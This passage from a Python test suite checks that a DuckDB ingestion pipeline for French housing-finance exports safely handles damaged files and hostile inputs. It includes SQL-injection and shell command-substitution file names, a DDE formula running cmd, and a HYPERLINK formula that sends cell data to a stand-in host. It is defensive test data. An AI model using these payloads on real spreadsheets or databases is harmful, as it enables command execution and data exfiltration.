    """Flip, cut and insert bytes anywhere in a real workbook: each result is loaded or rejected
    (never an exception out of Pipeline.ingest), and the earlier export keeps its rows."""
    original = bdt_workbook(bdt_rows(40))
    with open_warehouse(tmp_path) as pipe:
        earlier = earlier_export(pipe.con)
        seen: Counter[str] = Counter()

        @hsettings(max_examples=60, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
        @given(
            st.lists(
                st.tuples(st.integers(0, len(original) - 1), st.integers(0, 2), st.binary(min_size=1, max_size=8)),
                min_size=1,
                max_size=6,
            )
        )
        def damage(edits: list[tuple[int, int, bytes]]) -> None:
            data = bytearray(original)
            for at, how, blob in edits:
                at %= max(len(data), 1)
                if how == 0:
                    data[at : at + len(blob)] = blob
                elif how == 1:
                    del data[at : at + len(blob) * 8]
                else:
                    data[at:at] = blob
            path = tmp_path / "inbox" / "BDT_ACV_engagements_20261115.xlsx"
            path.parent.mkdir(exist_ok=True)
            path.write_bytes(bytes(data))
            r = pipe.ingest(path)
            assert r.status in ("loaded", "rejected", "duplicate"), r
            if r.status == "rejected" and not r.already_recorded:
                assert r.reason and r.message.startswith(path.name + ":")
            seen[r.status] += 1
            assert earlier_export(pipe.con) == earlier

        damage()
        assert seen["rejected"] > 0


# -- 5. text files that are not text, or too big -------------------------------------------------


def test_csv_over_the_size_limit_is_refused_unread(tmp_path: Path) -> None:
    """Over CDV_MAX_FILE_MB the file is refused before any parsing: its undecodable bytes would
    otherwise have been the reason."""
    with open_warehouse(tmp_path, max_file_mb=0.01) as pipe:
        rows = [
            [f"AL9{i:04d}", "47001", "Agen", "Construction neuve", "Prêt", "3", "1 000,00", "05/03/2021"]
            for i in range(400)
        ]
        path = write_al(tmp_path / "AL_ACV_export_2026-10.csv", rows)
        path.write_bytes(path.read_bytes() + b"\x81\x81\x81\r\n")  # 0x81: not Windows-1252
        assert path.stat().st_size > 0.01 * 1024 * 1024
        before = table_snapshot(pipe.con)
        r = pipe.ingest(path)
        assert_rejected(pipe, before, r, {"too_large"}, "over the 0.01 MB limit", "not read")


_GARBAGE = {
    "random_bytes": random.Random(2026).randbytes(8192),
    "png_signature": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00" + bytes(range(256)) * 8,
    "zip_signature": b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + random.Random(1).randbytes(4096),
}
_TEXT_PARTNERS = {
    "action_logement": "AL_ACV_export_2026-10.csv",  # Windows-1252: every byte but five decodes
    "anah": "anah_acv_2026.csv",  # UTF-8 with a byte-order mark
    "epf": "epf_interventions_acv.tsv",  # UTF-8
}


@pytest.mark.parametrize("partner", _TEXT_PARTNERS)
@pytest.mark.parametrize("payload", _GARBAGE)
def test_binary_garbage_named_csv_is_refused(wh: Pipeline, tmp_path: Path, partner: str, payload: str) -> None:
    path = tmp_path / "inbox" / _TEXT_PARTNERS[partner]
    path.parent.mkdir()
    path.write_bytes(_GARBAGE[payload])
    before = table_snapshot(wh.con)
    r = wh.ingest(path)
    assert_rejected(wh, before, r, {"encoding", "binary"})
    assert ("is not valid" in r.message and "offset" in r.message) or "NUL character" in r.message, r.message


# -- 6. file names that look like SQL, paths with "..", quotes --------------------------------

_NAMES = [
    # (file name, partner, expected status, expected reason)
    ("x'; DROP TABLE files; --.csv", "action_logement", "rejected", "extraction_date"),
    ("AL_ACV_export_2026-10';DROP TABLE files;--.csv", "action_logement", "loaded", None),
    ('a"b;c.tsv', "epf", "loaded", None),
    ("Robert'); DROP TABLE engagement_rows; --.tsv", "epf", "loaded", None),
    ("$(touch pwned) `id` %s %n {0}.tsv", "epf", "loaded", None),
    ("x[1]*?.tsv", "epf", "loaded", None),  # DuckDB would have read it as a glob pattern
    ("line\nbreak\ttab.tsv", "epf", "loaded", None),
    ("\u202eexe.tsv", "epf", "loaded", None),
]


@pytest.mark.parametrize(("name", "partner", "status", "reason"), _NAMES)
def test_hostile_file_names_are_stored_verbatim(
    wh: Pipeline, tmp_path: Path, name: str, partner: str, status: str, reason: str | None
) -> None:
    tag = f"{zlib.crc32(name.encode()):010d}"
    path = tmp_path / "inbox" / name
    path.parent.mkdir()
    if partner == "epf":
        write_epf(path, [[f"EPF{tag}", "47001", "Agen", "habitat", "2021-05-01", "12,5", "100"]])
    else:
        write_al(path, [[f"AL{tag}", "47001", "Agen", "Construction neuve", "Prêt", "3", "1 000,00", "05/03/2021"]])
    before = table_snapshot(wh.con)
    r = wh.ingest(path, partner=partner)
    assert (r.status, r.reason) == (status, reason), r.message
    assert r.file_name == name
    assert_only_its_own_rows(wh, before, r)
    if status == "loaded":
        assert r.rows_loaded == 1
        assert wh.con.execute(
            "SELECT file_name FROM financing_history WHERE operation_id LIKE ?", [f"%{tag}"]
        ).fetchall() == [(name,)]


@pytest.mark.parametrize(("name", "sibling"), [("a[1].tsv", "a1.tsv"), ("b*.tsv", "b-other.tsv"), ("c?.tsv", "cX.tsv")])
def test_glob_characters_in_a_name_read_that_file_only(wh: Pipeline, tmp_path: Path, name: str, sibling: str) -> None:
    """DuckDB reads a path as a glob pattern: "a[1].tsv" beside "a1.tsv" was refused (the sandbox
    forbade the sibling; without it, the sibling's rows would have been loaded under this name)."""
    inbox = tmp_path / "inbox"
    write_epf(inbox / sibling, [["EPF-SIBLING", "62498", "Lens", "habitat", "2021-05-01", "99,0", "1"]])
    path = write_epf(inbox / name, [["EPF-MINE", "47001", "Agen", "habitat", "2021-05-01", "12,5", "1"]])
    before = table_snapshot(wh.con)
    r = wh.ingest(path, partner="epf")
    assert (r.status, r.rows_loaded, r.loaded_amount_eur) == ("loaded", 1, Decimal("12500.00")), r.message
    assert wh.con.execute("SELECT operation_id FROM engagement_rows WHERE file_id = ?", [r.file_id]).fetchall() == [
        ("EPF-MINE",)
    ]
    assert_only_its_own_rows(wh, before, r)


def test_dot_dot_segments_in_the_path(wh: Pipeline, tmp_path: Path) -> None:
    """A path with ".." segments that resolves inside the inbox is read like any other."""
    target = write_al(
        tmp_path / "inbox" / "AL_ACV_export_2026-10.csv",
        [["AL7001", "47001", "Agen", "Construction neuve", "Prêt", "3", "2 000,00", "05/03/2021"]],
    )
    (tmp_path / "inbox" / "sub" / "deeper").mkdir(parents=True)
    path = tmp_path / "inbox" / "sub" / "deeper" / ".." / ".." / "AL_ACV_export_2026-10.csv"
    assert ".." in path.parts and path.resolve() == target.resolve()
    before = table_snapshot(wh.con)
    r = wh.ingest(path)
    assert (r.status, r.file_name, r.rows_loaded) == ("loaded", "AL_ACV_export_2026-10.csv", 1), r.message
    assert_only_its_own_rows(wh, before, r)


def test_sql_looking_name_through_the_cli(tmp_path: Path, cli_warehouse: Path) -> None:
    name = "x'); DROP TABLE files; --.tsv"
    path = write_epf(tmp_path / "exports" / name, [["EPF4242", "47001", "Agen", "habitat", "2021-05-01", "3,0", "1"]])
    run_cli(["ingest", "--partner", "epf", str(path), "-w", str(cli_warehouse)], tmp_path)
    out = run_cli(["files", "--format", "json", "-w", str(cli_warehouse)], tmp_path).stdout
    assert [f["file_name"] for f in json.loads(out)] == [name]
    with duckdb.connect(str(cli_warehouse), read_only=True) as con:
        assert con.execute("SELECT count(*) FROM files").fetchone() == (1,)
        assert con.execute("SELECT operation_id, amount_eur FROM financing").fetchall() == [
            ("EPF4242", Decimal("3000.00"))
        ]


def test_absurd_amount_in_keur_is_quarantined_not_a_crash(wh: Pipeline, tmp_path: Path) -> None:
    """A phone number typed in the k€ column: × 1000 overflowed DECIMAL(18) and the error escaped
    Pipeline.ingest, failing the whole file; now the row is quarantined and the others load."""
    path = write_epf(
        tmp_path / "epf_interventions_acv.tsv",
        [
            ["EPF1", "47001", "Agen", "habitat", "2021-05-01", "0612345678901234567890", "1"],
            ["EPF2", "47001", "Agen", "habitat", "2021-05-01", "9 999 999 999 999,9", "1"],
            ["EPF3", "62498", "Lens", "habitat", "2021-05-01", "12,34567", "1"],  # 12 345,67 € to the cent
        ],
    )
    before = table_snapshot(wh.con)
    r = wh.ingest(path)
    assert (r.status, r.rows_loaded, r.rows_quarantined, r.loaded_amount_eur) == (
        "loaded",
        1,
        2,
        Decimal("12345.67"),
    ), r.message
    assert r.quarantine_by_rule == {"amount_unparseable": 2}
    assert_only_its_own_rows(wh, before, r)


def test_amount_near_the_decimal_limit_is_quarantined_not_a_crash(wh: Pipeline, tmp_path: Path) -> None:
    """999 999 999 999 999,99 € parses into DECIMAL(18, 2), but amount × 100 (the cents the rules
    check) overflowed DECIMAL(18) and the error escaped Pipeline.ingest. Now it is checked, and no
    line of the programme reaches 1 bn€: quarantined as implausible, the other line loads."""
    path = write_al(
        tmp_path / "AL_ACV_export_2026-10.csv",
        [
            ["AL0901", "47001", "Agen", "Construction neuve", "Prêt", "3", "999 999 999 999 999,99", "05/03/2021"],
            ["AL0902", "47001", "Agen", "Construction neuve", "Prêt", "3", "10,00", "05/03/2021"],
        ],
    )
    before = table_snapshot(wh.con)
    r = wh.ingest(path)
    assert (r.status, r.rows_loaded, r.loaded_amount_eur) == ("loaded", 1, Decimal("10.00")), r.message
    assert r.quarantine_by_rule == {"amount_implausible": 1}
    assert_only_its_own_rows(wh, before, r)


def test_file_total_beyond_the_ledger_column_is_not_a_crash(wh: Pipeline, tmp_path: Path) -> None:
    """Lines whose sum would overflow the ledger's DECIMAL(18, 2) never reach it: each is implausible."""
    path = write_al(
        tmp_path / "AL_ACV_export_2026-10.csv",
        [
            [f"AL09{i}", "47001", "Agen", "Construction neuve", "Prêt", "3", "9 000 000 000 000 000,00", "05/03/2021"]
            for i in range(2)
        ],
    )
    before = table_snapshot(wh.con)
    r = wh.ingest(path)
    assert (r.status, r.rows_loaded, r.rows_quarantined) == ("loaded", 0, 2), r.message
    assert r.quarantine_by_rule == {"amount_implausible": 2}
    assert_only_its_own_rows(wh, before, r)


# -- 7. cells that are formulas, huge, invisible or control characters ---------------------------

_CONTROL = "".join(chr(c) for c in range(1, 32) if c not in (9, 10, 13))
# A megabyte of text that does not compress like "xxxx…" (which a workbook would carry at a
# zip-bomb ratio).
_MEGABYTE = "A" + "".join(random.Random(5).choices(string.ascii_letters + string.digits + " ", k=(1 << 20) - 2)) + "Z"
HOSTILE_CELLS = {
    "dde_formula": "=cmd|' /C calc'!A0",
    "at_formula": "@SUM(1+1)",
    "plus_formula": "+1+1",
    "hyperlink_formula": '=HYPERLINK("http://example.invalid/?"&A1,"clic")',
    "sql": "x'); DROP TABLE files; --",
    "json_breaker": '{"_row_key": 0}\\", \\u0000',
    "control_characters": f"a{_CONTROL}b",
    "tab_and_newlines_in_quotes": "ligne 1\nligne 2\r\nligne\t3",
    "right_to_left_override": "facture\u202egpj.exe\u202c",
    "bidi_marks": "A\u200f\u200e\u2066B\u2069\u061cC",
    "one_megabyte": _MEGABYTE,
}


def test_hostile_cells_are_stored_verbatim_in_a_csv(wh: Pipeline, tmp_path: Path) -> None:
    """Each hostile text lands, byte for byte, in commune_label and project_label of a loaded
    row and in the raw_record of a quarantined one; nothing is evaluated; the valid rows load."""
    rows = [["ref", "code", "commune", "projet", "montant", "date"]]
    for i, text in enumerate(HOSTILE_CELLS.values()):
        rows.append([f"OK{i:02d}", "47001", text, text, "1 000,00", "05/03/2021"])
        rows.append([f"KO{i:02d}", "99999", text, text, "1 000,00", "05/03/2021"])  # not an ACV commune
    path = tmp_path / "hostile_2026-10.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, delimiter=";", lineterminator="\r\n").writerows(rows)
    before = table_snapshot(wh.con)
    r = wh.ingest(path)
    n = len(HOSTILE_CELLS)
    assert (r.status, r.rows_read, r.rows_loaded, r.rows_quarantined) == ("loaded", 2 * n, n, n), r.message
    assert r.loaded_amount_eur == Decimal("1000.00") * n
    assert_only_its_own_rows(wh, before, r)
    for i, (kind, text) in enumerate(HOSTILE_CELLS.items()):
        loaded = wh.con.execute(
            "SELECT commune_label, project_label FROM engagement_rows WHERE operation_id = ?", [f"OK{i:02d}"]
        ).fetchone()
        assert loaded == (text, text), kind
        raw = wh.con.execute(
            "SELECT q.raw_record, q.rule, q.value FROM quarantine AS q WHERE q.file_id = ? "
            "AND json_extract_string(q.raw_record, '$.ref') = ?",
            [r.file_id, f"KO{i:02d}"],
        ).fetchone()
        assert raw is not None, kind
        record = json.loads(raw[0])
        assert (record["commune"], record["projet"], raw[1], raw[2]) == (text, text, "commune_not_acv", "99999"), kind


def test_a_cell_beyond_what_excel_writes_refuses_the_workbook_cleanly(wh: Pipeline, tmp_path: Path) -> None:
    """Excel stops a cell at 32,767 characters; the reader stops at ~64 kB of XML text. A workbook
    whose XML carries a whole megabyte in one cell was not written by Excel: it is refused whole,
    naming the sheet and the cause, and nothing else changes."""
    rows = bdt_rows(5)
    rows[2][5] = _MEGABYTE[:32767]
    data = with_sheet(bdt_workbook(rows), lambda s: s.replace(_MEGABYTE[:32767].encode(), _MEGABYTE.encode()))
    assert _MEGABYTE.encode() in members(data)[SHEET]
    path = tmp_path / "BDT_ACV_engagements_20261115.xlsx"
    path.write_bytes(data)
    before = table_snapshot(wh.con)
    r = wh.ingest(path)
    assert_rejected(wh, before, r, {"unreadable"}, "sheet 'Engagements' cannot be read")
    assert "too large" in r.message


def test_hostile_cells_are_stored_verbatim_in_a_workbook(wh: Pipeline, tmp_path: Path) -> None:
    """The same in a BDT workbook (XML forbids control characters, so they are left out, and any
    XML reader reads a CR LF line end as LF); a real formula in the amount column is never
    computed: its row has no amount."""
    texts = {k: v.replace("\r\n", "\n") for k, v in HOSTILE_CELLS.items() if k != "control_characters"}
    texts["one_megabyte"] = _MEGABYTE[:32767]  # Excel's limit for a cell (what openpyxl writes)
    valid = bdt_rows(len(texts))
    for row, text in zip(valid, texts.values(), strict=True):
        row[2] = row[5] = text
    rows = list(valid)
    quarantined = [f"BDT-2024-9{i:04d}" for i in range(len(texts))]
    for op, text in zip(quarantined, texts.values(), strict=True):
        rows.append([op, "99999", text, "Prêt", "Habitat", text, date(2024, 5, 1), 500.0])
    rows.append(["BDT-2024-88888", "47001", "Agen", "Prêt", "Habitat", "formule", date(2024, 5, 1), "=1+1"])
    data = bdt_workbook(rows)
    assert b"<f>1+1</f>" in members(data)[SHEET] and _MEGABYTE[:32767].encode() in members(data)[SHEET]
    path = tmp_path / "BDT_ACV_engagements_20261115.xlsx"
    path.write_bytes(data)
    before = table_snapshot(wh.con)
    r = wh.ingest(path)
    n = len(texts)
    assert (r.status, r.rows_loaded, r.rows_quarantined) == ("loaded", n, n + 1), r.message
    assert_only_its_own_rows(wh, before, r)
    for row, text in zip(valid, texts.values(), strict=True):
        got = wh.con.execute(
            "SELECT commune_label, project_label FROM engagement_rows WHERE operation_id = ?", [row[0]]
        ).fetchone()
        assert got == (text, text), row[0]
    for op, text in zip(quarantined, texts.values(), strict=True):
        raw = wh.con.execute(
            "SELECT raw_record FROM quarantine WHERE file_id = ? AND "
            "json_extract_string(raw_record, '$.\"N° engagement\"') = ?",
            [r.file_id, op],
        ).fetchone()
        assert raw is not None, op
        assert json.loads(raw[0])["Intitulé du projet"] == text
    formula = wh.con.execute(
        "SELECT rule, raw_record FROM quarantine WHERE file_id = ? AND "
        "json_extract_string(raw_record, '$.\"N° engagement\"') = 'BDT-2024-88888'",
        [r.file_id],
    ).fetchone()
    assert formula is not None and formula[0] == "amount_missing"
    assert json.loads(formula[1])["Montant engagé (€)"] in ("", None)
